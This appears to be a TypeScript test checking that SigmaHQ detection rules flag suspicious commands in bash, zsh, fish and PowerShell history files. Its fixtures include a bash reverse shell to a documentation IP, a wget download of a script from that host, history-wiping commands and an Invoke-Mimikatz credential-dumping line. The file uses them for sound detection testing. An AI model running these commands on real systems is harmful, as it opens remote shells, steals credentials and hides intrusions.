import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { createDetector, loadRuleSet } from '../../src/detect/index.ts';
import { defaultResolver } from '../../src/detect/mapping/index.ts';
import { collectEvents } from '../../src/pipeline/events.ts';
import { tempDirs } from '../helpers/temp.ts';
import { sharedPath, sigmaRuleDirs } from './shared-data.ts';

/**
 * Every SigmaHQ rule over the shell histories a triage collection gathers: the Linux keyword rules written for shell
 * commands (reverse shells, download-and-run, history tampering) fire on the bash, zsh and fish commands that hold
 * their keywords, the PowerShell script block rules on PSReadLine's, and nothing fires on the everyday commands
 * around them, nor a Windows rule on a Unix shell's text or the reverse.
 */

const temp = tempDirs('sigmahq-shell-history');

const BASH = [
  '#1732354800', 'cd /var/www/html',
  '#1732354801', 'ls -la /tmp',
  '#1732354802', 'git pull origin main',
  '#1732354810', 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1',
  '#1732354820', 'wget http://203.0.113.45/x.sh; chmod +x /tmp/x.sh',
  '#1732354830', 'echo "sekurlsa::logonpasswords" > notes.txt',
  '#1732354840', 'history -c',
];
const ZSH = [
  ': 1732354900:0;tail -f /var/log/nginx/access.log',
  ': 1732354910:3;python3 -m http.server 8000',
  ': 1732354920:0;cat </dev/tcp/203.0.113.45/80',
];
const FISH = ['- cmd: systemctl restart nginx', '  when: 1732355000', '- cmd: rm ~/.zsh_history', '  when: 1732355010'];
const PSREADLINE = [
  'Get-Service -Name WinRM',
  'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"',
  'cd C:\\Users\\bob\\Documents',
];

test("SigmaHQ's rules fire on shell histories' commands as written for them, and on nothing else", async (t) => {
  const root = sharedPath(t, 'sigma');
  if (root === undefined) return;
  const dir = temp.fresh();
  const files: [string, string[]][] = [
    [join(dir, 'home', 'alice', '.bash_history'), BASH],
    [join(dir, 'home', 'carol', '.zsh_history'), ZSH],
    [join(dir, 'root', '.local', 'share', 'fish', 'fish_history'), FISH],
    [join(dir, 'Users', 'bob', 'AppData', 'Roaming', 'Microsoft', 'Windows', 'PowerShell', 'PSReadLine', 'ConsoleHost_history.txt'), PSREADLINE],
  ];
  for (const [path, lines] of files) {
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, `${lines.join('\n')}\n`);
  }
  const { events, errors, formats } = await collectEvents(files.map(([path]) => path), { tz: 'UTC' });
  assert.deepEqual(errors, []);
  assert.deepEqual(formats, files.map(() => 'shell-history'));
  assert.equal(events.length, 7 + 3 + 2 + 3);
  const set = loadRuleSet(sigmaRuleDirs(root), defaultResolver);
  assert.ok(set.rules.length > 3000, `${String(set.rules.length)} rules loaded`);
  const detector = createDetector(set, defaultResolver);
  const alerts = [...events.flatMap((e) => detector.push(e)), ...detector.flush()];
  const fired = alerts
    .map((alert) => {
      const event = events.find((e) => alert.event_ids.includes(e.id));
      return `${event?.user?.name ?? '?'}: ${event?.message ?? '?'} → ${alert.rule.title}`;
    })
    .sort();
  assert.deepEqual(fired, [
    'alice: bash -i >& /dev/tcp/203.0.113.45/4444 0>&1 → Suspicious Reverse Shell Command Line',
    'alice: bash -i >& /dev/tcp/203.0.113.45/4444 0>&1 → Suspicious Use of /dev/tcp',
    'alice: history -c → Linux Command History Tampering',
    'alice: wget http://203.0.113.45/x.sh; chmod +x /tmp/x.sh → Suspicious Activity in Shell Commands',
    // Windows's rules, keyword ones among them, read PSReadLine's commands and not alice's echo of the same words.
    'bob: Invoke-Mimikatz -Command "sekurlsa::logonpasswords" → Malicious PowerShell Commandlets - ScriptBlock',
    'bob: Invoke-Mimikatz -Command "sekurlsa::logonpasswords" → Malicious PowerShell Keywords',
    'bob: Invoke-Mimikatz -Command "sekurlsa::logonpasswords" → Mimikatz Use',
    'bob: Invoke-Mimikatz -Command "sekurlsa::logonpasswords" → Potential Invoke-Mimikatz PowerShell Script',
    'carol: cat </dev/tcp/203.0.113.45/80 → Suspicious Use of /dev/tcp',
    'carol: python3 -m http.server 8000 → Suspicious Activity in Shell Commands',
    'root: rm ~/.zsh_history → Linux Command History Tampering',
  ]);
});
